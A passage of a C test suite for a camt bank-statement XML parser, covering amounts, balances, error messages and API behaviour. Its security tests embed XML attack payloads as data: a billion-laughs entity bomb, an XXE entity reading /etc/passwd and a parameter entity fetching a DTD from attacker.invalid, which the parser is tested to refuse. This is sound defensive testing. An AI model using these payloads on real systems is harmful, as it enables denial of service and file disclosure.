			   "<Rcrd><ChrgInclInd>true</ChrgInclInd><Amt Ccy=\"EUR\">0.50</Amt></Rcrd></Chrgs>\n"
			   "<NtryDtls><TxDtls><Amt Ccy=\"EUR\">1000.00</Amt>"
			   "<Chrgs><Rcrd><Amt Ccy=\"EUR\">1.00</Amt></Rcrd></Chrgs></TxDtls></NtryDtls>\n"));
	char *doc02 = stmt_doc("02", NTRY("61.00", "DBIT",
					  "<Chrgs><Amt Ccy=\"EUR\">0.60</Amt><Tp><Cd>COMM</Cd></Tp></Chrgs>"
					  "<Chrgs><CdtDbtInd>DBIT</CdtDbtInd><Amt Ccy=\"EUR\">0.40</Amt></Chrgs>"
					  "<NtryDtls><TxDtls><AmtDtls><TxAmt><Amt Ccy=\"EUR\">60.00</Amt>"
					  "</TxAmt></AmtDtls></TxDtls></NtryDtls>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc08, &d), 0);
	assert_log(&r, " chg=2.50 EUR|2.00 EUR:DBIT:0:COMM|0.50 EUR:-:1:- ");
	assert_log(&r, "  T1 amt=1000.00 EUR eff=1000.00 EUR");
	assert_log(&r, " chg=-|1.00 EUR:-:-1:-\n");
	cr_assert_eq(read_doc(&r, doc02, &d), 0);
	assert_log(&r, " chg=-|0.60 EUR:-:-1:COMM|0.40 EUR:DBIT:-1:- ");
	/* the entry's amount includes the charges: the detail's is in AmtDtls/TxAmt */
	assert_log(&r, "  T1 amt=- eff=60.00 EUR cdi=-/DBIT txamt=60.00 EUR ");
	assert_no_diag(&d);
	free(doc08);
	free(doc02);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, detail_amount_of_an_entry_with_one_detail)
{
	/* TxAmt disagrees (an anonymised file): the entry is exactly its one detail */
	char *doc = stmt_doc("02", NTRY("4500.00", "CRDT",
					"<NtryDtls><TxDtls><AmtDtls>"
					"<InstdAmt><Amt Ccy=\"CHF\">4500.00</Amt></InstdAmt>"
					"<TxAmt><Amt Ccy=\"CHF\">0.04</Amt></TxAmt>"
					"</AmtDtls></TxDtls></NtryDtls>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_log(&r, "  T1 amt=- eff=4500.00 EUR cdi=-/CRDT");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, foreign_currency_and_exchange_rate)
{
	char *doc = stmt_doc(
		"04", NTRY("95.20", "DBIT",
			   "<NtryDtls><TxDtls><AmtDtls>"
			   "<InstdAmt><Amt Ccy=\"USD\">100.00</Amt><CcyXchg><SrcCcy>CHF</SrcCcy>"
			   "<TrgtCcy>USD</TrgtCcy><UnitCcy>CHF</UnitCcy>"
			   "<XchgRate>1.0504201680672268907563</XchgRate></CcyXchg></InstdAmt>"
			   "<CntrValAmt><Amt Ccy=\"CHF\">95.20</Amt></CntrValAmt>"
			   "</AmtDtls></TxDtls>"
			   "<TxDtls><AmtDtls><InstdAmt><Amt Ccy=\"JPY\">15000</Amt></InstdAmt>"
			   "</AmtDtls></TxDtls></NtryDtls>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "  T1 amt=- eff=100.00 USD cdi=-/DBIT instd=100.00 USD "
		       "fx=CHF>USD/CHF@1.0504201680672268907563 cntrval=95.20 CHF refs=");
	/* two details without amounts of their own: the instructed amount is the best there is */
	assert_log(&r, "  T2 amt=- eff=15000 JPY");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, more_decimals_than_the_currency_is_a_warning)
{
	static const char doc[] =
		"<Document xmlns=\"" NS53 "08\"><BkToCstmrStmt><Stmt><Id>D</Id>\n"
		"<Ntry><Amt Ccy=\"JPY\">1500.5</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		"<Ntry><Amt Ccy=\"EUR\">2.500</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		"<Ntry><Amt Ccy=\"BHD\">10.125</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		"<Ntry><Amt Ccy=\"EUR\">0.001</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		"<Ntry><Amt Ccy=\"XXX\">1.23456</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		"</Stmt></BkToCstmrStmt></Document>\n";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0, "warnings are not errors");
	cr_assert_eq(d.nerrors, 0);
	cr_assert_eq(d.n, 2, "two warnings, got %zu", d.n);
	assert_diag_at(&d, "amount '1500.5' has more decimals than 'JPY' has (0)", 2, 0);
	assert_diag_at(&d, "amount '0.001' has more decimals than 'EUR' has (2)", 5, 0);
	cr_assert_eq(d.items[0].level, DIAG_WARNING);
	assert_log(&r, "amt=1500.5 JPY"); /* exact, not rounded */
	assert_log(&r, "amt=2.500 EUR");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, amounts_parse_exactly)
{
	char *doc = stmt_doc("08", NTRY("000000000005202.96", "CRDT", "")
				   NTRY("123456789012345678901234567.123456789", "CRDT", "")
				   NTRY("7.", "CRDT", "") NTRY(".5", "CRDT", "")
				   NTRY("+3", "CRDT", "") NTRY("0", "DBIT", ""));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_log(&r, "E1 line=8 amt=5202.96 EUR");
	assert_log(&r, "amt=123456789012345678901234567.123456789 EUR");
	assert_log(&r, "amt=7 EUR");
	assert_log(&r, "amt=0.5 EUR");
	assert_log(&r, "amt=3 EUR");
	assert_log(&r, "amt=0 EUR cdi=DBIT");
	assert_log(&r, "cr=123456789012345678901239780.583456789"); /* + 5202.96 + 7 + 0.5 + 3 */
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* opening, closing, balanced */

struct balance_case {
	char bals[480];
	char want[48];
};

ParameterizedTestParameters(camt, opening_and_closing_rules)
{
	static struct balance_case cases[] = {
		{ BAL("CLBD", "1.00", "CRDT") BAL("PRCD", "1.00", "CRDT") BAL("OPBD", "1.00", "CRDT"),
		  "open=OPBD close=CLBD balanced=yes" },
		{ BAL("PRCD", "1.00", "CRDT") BAL("CLBD", "1.00", "CRDT"),
		  "open=PRCD close=CLBD balanced=yes" },
		{ BAL("ITBD", "1.00", "CRDT") BAL("ITBD", "2.00", "CRDT") BAL("ITBD", "1.00", "CRDT"),
		  "open=ITBD close=ITBD balanced=yes" },
		{ BAL("ITBD", "1.00", "CRDT"), "open=- close=- balanced=unknown" },
		{ BAL("OPBD", "1.00", "CRDT") BAL("ITBD", "1.00", "CRDT"),
		  "open=OPBD close=- balanced=unknown" },
		{ BAL("OPAV", "1.00", "CRDT") BAL("CLAV", "1.00", "CRDT"),
		  "open=- close=- balanced=unknown" },
		{ BAL("OPBD", "1.00", "CRDT") BAL("CLBD", "1.000000000001", "CRDT"),
		  "open=OPBD close=CLBD balanced=no" },
		{ BAL("OPBD", "1", "DBIT") BAL("CLBD", "1.00", "DBIT"),
		  "open=OPBD close=CLBD balanced=yes" },
	};
	return cr_make_param_array(struct balance_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct balance_case *c, camt, opening_and_closing_rules)
{
	char *doc = stmt_doc("02", c->bals);
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_log(&r, c->want);
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, interim_balances_first_and_last)
{
	char *doc = stmt_doc("02", BAL("ITBD", "10.00", "CRDT") BAL("ITBD", "99.00", "CRDT")
			   BAL("ITBD", "15.00", "CRDT") NTRY("5.00", "CRDT", ""));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	/* 10 + 5 = 15: the middle ITBD is not used */
	assert_log(&r, "balanced=yes");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, balance_without_cdi_is_a_credit_with_a_warning)
{
	char *doc = stmt_doc("08", "<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp>"
				   "<Amt Ccy=\"EUR\">5.00</Amt></Bal>\n");
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_diag_at(&d, "balance without CdtDbtInd: read as a credit (CRDT)", 8, 0);
	assert_log(&r, "  BAL OPBD/- 5.00 EUR");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* errors */

struct error_case {
	char body[320];
	char message[120];
	uint32_t line;
};

ParameterizedTestParameters(camt, data_errors_with_lines)
{
	static struct error_case cases[] = {
		{ "<Ntry>\n<CdtDbtInd>DBIT</CdtDbtInd>\n</Ntry>\n", "entry without amount (Ntry/Amt)", 8 },
		{ "<Ntry>\n<Amt Ccy=\"EUR\">1</Amt>\n</Ntry>\n", "entry without CdtDbtInd", 8 },
		{ NTRY("1.00", "CREDIT", ""), "bad CdtDbtInd 'CREDIT' in 'Ntry/CdtDbtInd'", 10 },
		{ NTRY("1.00", "CRDT", "<BookgDt><Dt>2023-02-29</Dt></BookgDt>\n"),
		  "bad date '2023-02-29' in 'BookgDt/Dt' (expected YYYY-MM-DD)", 11 },
		{ NTRY("1.00", "CRDT", "<ValDt><DtTm>2023-03-01 10:00</DtTm></ValDt>\n"),
		  "bad date and time '2023-03-01 10:00' in 'ValDt/DtTm'", 11 },
		{ NTRY("1.00", "CRDT", "<RvslInd>yes</RvslInd>\n"), "bad boolean 'yes' in 'Ntry/RvslInd'",
		  11 },
		{ "<Ntry>\n<Amt Ccy=\"EUX\">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>\n</Ntry>\n",
		  "unknown currency 'EUX' in the Ccy attribute (not an ISO 4217 code)", 9 },
		{ "<Ntry>\n<Amt Ccy=\"euro\">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>\n</Ntry>\n",
		  "bad currency code 'euro' in the Ccy attribute (expected 3 letters)", 9 },
		{ "<Ntry>\n<Amt>1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>\n</Ntry>\n",
		  "amount without currency (no Ccy attribute) in 'Ntry/Amt'", 9 },
		{ NTRY("1,50", "CRDT", ""), "bad amount '1,50' in 'Ntry/Amt'", 9 },
		{ NTRY("-1.50", "CRDT", ""), "negative amount (the sign is in CdtDbtInd) '-1.50'", 9 },
		{ NTRY("", "CRDT", ""), "empty amount in 'Ntry/Amt'", 9 },
		{ NTRY("1.0000000000000000000000000000001", "CRDT", ""), "amount has too many decimals",
		  9 },
		{ "<Bal>\n<Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><CdtDbtInd>CRDT</CdtDbtInd>\n</Bal>\n",
		  "balance without amount (Bal/Amt)", 8 },
		{ "<Bal>\n<Amt Ccy=\"EUR\">1</Amt><CdtDbtInd>CRDT</CdtDbtInd>\n</Bal>\n",
		  "balance without type (Bal/Tp/CdOrPrtry)", 8 },
		{ NTRY("1.00", "CRDT", "<NtryDtls><TxDtls><AmtDtls><InstdAmt><Amt Ccy=\"USD\">1</Amt>"
				       "<CcyXchg><XchgRate>1,2</XchgRate></CcyXchg></InstdAmt></AmtDtls>"
				       "</TxDtls></NtryDtls>\n"),
		  "bad exchange rate '1,2' in 'CcyXchg/XchgRate'", 11 },
	};
	return cr_make_param_array(struct error_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct error_case *c, camt, data_errors_with_lines)
{
	char *doc = stmt_doc("08", c->body);
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), CLERK_EPARSE);
	assert_diag_at(&d, c->message, c->line, 0);
	cr_assert_eq(d.items[0].level, DIAG_ERROR);
	cr_assert_str_eq(d.items[0].file, "t.xml");
	/* the broken entry is not passed on; the statement ends with its error count */
	assert_not_log(&r, "E1 ");
	assert_log(&r, "nerr=1\n");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, all_errors_are_reported_and_good_entries_passed)
{
	char *doc = stmt_doc("08", NTRY("1.00", "CRDT", "") NTRY("x", "CRDT", "")
				   NTRY("2.00", "CRDT", "") NTRY("3.00", "DEBIT", ""));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), CLERK_EPARSE);
	cr_assert_eq(d.nerrors, 2);
	assert_log(&r, "E1 line=8 amt=1.00");
	assert_log(&r, "E3 line=16 amt=2.00");
	assert_not_log(&r, "E2 ");
	assert_not_log(&r, "E4 ");
	assert_log(&r, "entries=4 booked=2 cr=3.00 db=0 ");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

struct doc_error_case {
	char doc[300];
	char message[120];
	uint32_t line, col;
};

ParameterizedTestParameters(camt, document_errors)
{
	static struct doc_error_case cases[] = {
		{ "", "empty file (not an XML document)", 1, 1 },
		{ "Datum;Betrag\n2024-01-01;5,00\n", "not an XML document (no root element)", 1, 1 },
		{ "<Statement/>", "root element is 'Statement', not 'Document': not a camt document", 1, 0 },
		{ "<Document xmlns=\"urn:weird-namespace\"/>",
		  "unknown namespace 'urn:weird-namespace': not a camt.052, camt.053 or camt.054 document",
		  1, 0 },
		{ "<Document/>", "'Document' has no namespace", 1, 0 },
		{ "<Document xmlns=\"" NS53 "14\"/>", "unsupported camt version in namespace", 1, 0 },
		{ "<Document xmlns=\"" NS53 "02\">\n</Document>",
		  "no statement in this camt.053 document (no BkToCstmrStmt/Stmt element)", 1, 0 },
		{ "<Document xmlns=\"" NS53 "02\">\n<BkToCstmrStmt>\n<Stmt>\n<Id>X</Id>\n<Ntry>\n<Amt",
		  "not well-formed XML: ", 6, 0 },
		{ "<Document xmlns=\"" NS53 "02\">\n<BkToCstmrStmt>\n<Stmt>\n<Id>X</Id>\n</Ntry>",
		  "not well-formed XML: Opening and ending tag mismatch: Stmt line 3 and Ntry", 5, 8 },
		{ "<Document xmlns=\"" NS53 "02\">\n<BkToCstmrStmt>\n<Stmt>\n<Id>&foo;</Id>",
		  "not well-formed XML: Entity 'foo' not defined", 4, 0 },
		{ "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.052.001.02\">\n"
		  "<BkToCstmrStmt/></Document>",
		  "'BkToCstmrStmt' in a camt.052 document (expected 'BkToCstmrAcctRpt')", 2, 0 },
		{ "<Document xmlns=\"" NS53 "02\">\n<BkToCstmrStmt>\n<Stmt>\n<Id>\xff\xfe</Id>",
		  "not well-formed XML: Input is not proper UTF-8", 4, 0 },
		{ "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>X</Id>\n"
		  "<Ntry><Amt Ccy=\"EUR\">1</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
		  "</Stmt></BkToCstmrStmt></Document>\n<extra/>",
		  "not well-formed XML: Extra content at the end of the document", 4, 0 },
	};
	return cr_make_param_array(struct doc_error_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct doc_error_case *c, camt, document_errors)
{
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, c->doc, &d), CLERK_EPARSE);
	assert_diag_at(&d, c->message, c->line, c->col);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, an_xml_error_ends_reading_without_statement_end)
{
	static const char doc[] = "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>X</Id>\n"
				  "<Ntry><Amt Ccy=\"EUR\">1</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n"
				  "<Ntry><Amt Ccy=\"EUR\">2</Amt><CdtDbtInd>CRDT</Cdt";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), CLERK_EPARSE);
	cr_assert_eq(d.nerrors, 1, "one error, not a cascade");
	assert_log(&r, "E1 ");
	assert_not_log(&r, "E2 ");
	assert_not_log(&r, "S id=");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, exact_lines_beyond_65535)
{
	struct strbuf doc = STRBUF_INIT;
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	strbuf_addstr(&doc, "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>X</Id>\n");
	for (int i = 0; i < 70000; i++)
		strbuf_addstr(&doc, "<Ntry><Amt Ccy=\"EUR\">1</Amt><CdtDbtInd>CRDT</CdtDbtInd></Ntry>\n");
	/* line 70002 */
	strbuf_addstr(&doc, "<Ntry>\n<Amt Ccy=\"EUR\">1</Amt>\n<CdtDbtInd>CRDIT</CdtDbtInd>\n</Ntry>\n");
	strbuf_addstr(&doc, "</Stmt></BkToCstmrStmt></Document>\n");
	cr_assert_eq(camt_read_memory("big.xml", doc.buf, doc.len, &rec_handler, &r, &d),
		     CLERK_EPARSE);
	assert_diag_at(&d, "bad CdtDbtInd 'CRDIT'", 70004, 0);
	assert_log(&r, "entries=70001 booked=70000 cr=70000 ");
	strbuf_release(&doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* security */

static double seconds_since(const struct timespec *t0)
{
	struct timespec t1;
	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) + (double)(t1.tv_nsec - t0->tv_nsec) / 1e9;
}

Test(camt_security, billion_laughs_is_refused_quickly)
{
	static const char doc[] =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE Document [\n"
		" <!ENTITY lol \"lol\">\n"
		" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
		" <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
		" <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
		" <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
		" <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
		" <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
		" <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
		" <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
		"]>\n"
		"<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>&lol9;</Id></Stmt>"
		"</BkToCstmrStmt></Document>\n";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	struct timespec t0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	cr_assert_eq(read_doc(&r, doc, &d), CLERK_EPARSE);
	cr_assert_lt(seconds_since(&t0), 1.0);
	cr_assert_eq(d.nerrors, 1, "see the diagnostics");
	assert_diag_at(&d, "DOCTYPE declares entities: refused", 3, 0);
	cr_assert_eq(r.log.len, 0, "nothing read: %s", r.log.buf);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

ParameterizedTestParameters(camt_security, entity_declarations_are_refused)
{
	static struct doc_error_case cases[] = {
		{ "<!DOCTYPE Document [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n"
		  "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>&xxe;</Id></Stmt>"
		  "</BkToCstmrStmt></Document>",
		  "DOCTYPE declares entities", 2, 0 },
		{ "<?xml version=\"1.0\"?>\n<!-- a comment -->\n<!DOCTYPE Document [\n"
		  "<!ENTITY % pe SYSTEM \"http://attacker.invalid/x.dtd\">\n%pe;\n]>\n"
		  "<Document xmlns=\"" NS53 "02\"/>",
		  "DOCTYPE declares entities", 4, 0 },
		{ "<!DOCTYPE Document [<!ELEMENT Document ANY><!ENTITY a \"b\">]>"
		  "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>&a;</Id></Stmt>"
		  "</BkToCstmrStmt></Document>",
		  "DOCTYPE declares entities", 1, 0 },
	};
	return cr_make_param_array(struct doc_error_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct doc_error_case *c, camt_security, entity_declarations_are_refused)
{
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, c->doc, &d), CLERK_EPARSE);
	cr_assert_eq(d.nerrors, 1, "see the diagnostics");
	assert_diag_at(&d, c->message, c->line, c->col);
	cr_assert_eq(r.log.len, 0);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt_security, utf16_entities_are_refused_by_the_doctype_check)
{
	/* the byte scan cannot see "<!ENTITY" in UTF-16: the DOCTYPE node check does */
	static const char ascii[] = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n"
				    "<!DOCTYPE Document [<!ENTITY a \"x\">]>\n"
				    "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>&a;</Id>"
				    "</Stmt></BkToCstmrStmt></Document>\n";
	size_t n = strlen(ascii);
	char *doc = xmalloc(2 * n + 2);
	doc[0] = '\xff';
	doc[1] = '\xfe';
	for (size_t i = 0; i < n; i++) {
		doc[2 + 2 * i] = ascii[i];
		doc[3 + 2 * i] = '\0';
	}
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(camt_read_memory("u16.xml", doc, 2 * n + 2, &rec_handler, &r, &d),
		     CLERK_EPARSE);
	cr_assert_not_null(diag_find(&d, "DOCTYPE declares entities"), "see the diagnostics");
	assert_not_log(&r, "E1");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt_security, doctype_without_entities_is_harmless)
{
	static const char doc[] = "<!DOCTYPE Document SYSTEM \"http://attacker.invalid/camt.dtd\">\n"
				  "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt><Id>X</Id>"
				  "</Stmt></BkToCstmrStmt></Document>\n";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "S id=X");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt_security, oversized_text_is_refused)
{
	struct strbuf doc = STRBUF_INIT;
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	strbuf_addstr(&doc, "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt>\n<Id>");
	strbuf_addchars(&doc, 'A', CAMT_MAX_TEXT + 1);
	strbuf_addstr(&doc, "</Id></Stmt></BkToCstmrStmt></Document>");
	cr_assert_eq(read_doc(&r, doc.buf, &d), CLERK_EPARSE);
	assert_diag_at(&d, "text too long in 'Stmt/Id' (more than 65536 bytes)", 2, 0);
	/* exactly the limit is fine */
	strbuf_reset(&doc);
	diag_release(&d);
	strbuf_addstr(&doc, "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt>\n<Id>");
	strbuf_addchars(&doc, 'A', CAMT_MAX_TEXT);
	strbuf_addstr(&doc, "</Id></Stmt></BkToCstmrStmt></Document>");
	cr_assert_eq(read_doc(&r, doc.buf, &d), 0);
	strbuf_release(&doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt_security, absurd_nesting_is_refused_quickly)
{
	struct strbuf doc = STRBUF_INIT;
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	struct timespec t0;
	strbuf_addstr(&doc, "<Document xmlns=\"" NS53 "02\"><BkToCstmrStmt><Stmt>\n");
	for (int i = 0; i < 10000; i++)
		strbuf_addstr(&doc, "<a>");
	for (int i = 0; i < 10000; i++)
		strbuf_addstr(&doc, "</a>");
	strbuf_addstr(&doc, "</Stmt></BkToCstmrStmt></Document>");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	cr_assert_eq(read_doc(&r, doc.buf, &d), CLERK_EPARSE);
	cr_assert_lt(seconds_since(&t0), 1.0);
	assert_diag_at(&d, "nesting too deep (more than 64 levels of elements)", 2, 0);
	cr_assert_eq(d.nerrors, 1);
	strbuf_release(&doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* the API */

Test(camt, callback_stops_reading)
{
	char *doc = stmt_doc("02", NTRY("1", "CRDT", "") NTRY("2", "CRDT", "") NTRY("3", "CRDT", ""));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	r.stop_at_entry = 2;
	cr_assert_eq(read_doc(&r, doc, &d), 42);
	assert_log(&r, "E2 ");
	assert_not_log(&r, "E3 ");
	assert_not_log(&r, "S id=");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, null_handler_and_null_callbacks)
{
	char *doc = stmt_doc("02", NTRY("1", "CRDT", ""));
	struct camt_handler only_end = { NULL, NULL, rec_end };
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(camt_read_memory("t.xml", doc, strlen(doc), NULL, NULL, &d), 0);
	cr_assert_eq(camt_read_memory("t.xml", doc, strlen(doc), &only_end, &r, &d), 0);
	assert_log(&r, "entries=1 booked=1 cr=1 ");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, read_file, TMPDIR_FIXTURE)
{
	char *doc = stmt_doc("02", NTRY("1", "CRDT", ""));
	char *path = tpath("s.xml"), *missing = tpath("missing.xml");
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	write_file("s.xml", doc);
	cr_assert_eq(camt_read_file(path, &rec_handler, &r, &d), 0);
	assert_log(&r, "entries=1 booked=1 ");
	cr_assert_eq(camt_read_file(missing, &rec_handler, &r, &d), CLERK_ENOTFOUND);
	cr_assert(strstr(clerk_error_last()->message, "No such file"));
	cr_assert_eq(camt_read_file(tdir, &rec_handler, &r, &d), CLERK_EIO);
	cr_assert(strstr(clerk_error_last()->message, "is a folder, not a regular file"), "%s",
		  clerk_error_last()->message);
	cr_assert_eq(d.n, 0, "I/O errors are not diagnostics");
	clerk_error_clear();
	free(doc);
	free(path);
	free(missing);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, read_file_sha256, TMPDIR_FIXTURE)
{
	/* the digest is of every byte of the file: a whole statement, one whose
	 * parse stops at an error halfway, one a callback stops, a large one */
	char *doc = stmt_doc("02", NTRY("1", "CRDT", "") NTRY("2", "DBIT", ""));
	char *path = tpath("s.xml"), *missing = tpath("missing.xml");
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	char want[SHA256_HEX_LEN + 1], got[SHA256_HEX_LEN + 1];

	write_file("s.xml", doc);
	sha256_hex(doc, strlen(doc), want);
	cr_assert_eq(camt_read_file_sha256(path, &rec_handler, &r, &d, got), 0);
	cr_assert_str_eq(got, want);
	assert_log(&r, "entries=2 ");

	r.stop_at_entry = 1;
	memset(got, 0, sizeof(got));
	cr_assert_eq(camt_read_file_sha256(path, &rec_handler, &r, &d, got), 42);
	cr_assert_str_eq(got, want, "a stopped read still digests the whole file");
	r.stop_at_entry = 0;

	struct strbuf broken = STRBUF_INIT;
	strbuf_addstr(&broken, doc);
	strbuf_setlen(&broken, broken.len / 2);
	strbuf_addstr(&broken, "<<<not xml");
	for (int i = 0; i < 20000; i++)
		strbuf_addstr(&broken, " trailing bytes the reader never asks for\n");
	write_file("s.xml", broken.buf);
	sha256_hex(broken.buf, broken.len, want);
	cr_assert_eq(camt_read_file_sha256(path, &rec_handler, &r, &d, got), CLERK_EPARSE);
	cr_assert_str_eq(got, want, "a broken file is digested to its end");
	cr_assert_gt(d.nerrors, 0);
	diag_release(&d);
	d = (struct diag)DIAG_INIT;

	snprintf(got, sizeof(got), "untouched");
	cr_assert_eq(camt_read_file_sha256(missing, &rec_handler, &r, &d, got), CLERK_ENOTFOUND);
	cr_assert_str_eq(got, "untouched");
	cr_assert_eq(camt_read_file_sha256(tdir, &rec_handler, &r, &d, got), CLERK_EIO);
	cr_assert_str_eq(got, "untouched");
	clerk_error_clear();
	free(doc);
	free(path);
	free(missing);
	strbuf_release(&broken);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* A FIFO (without a writer) or a device is refused at once: never waited on, never read. */
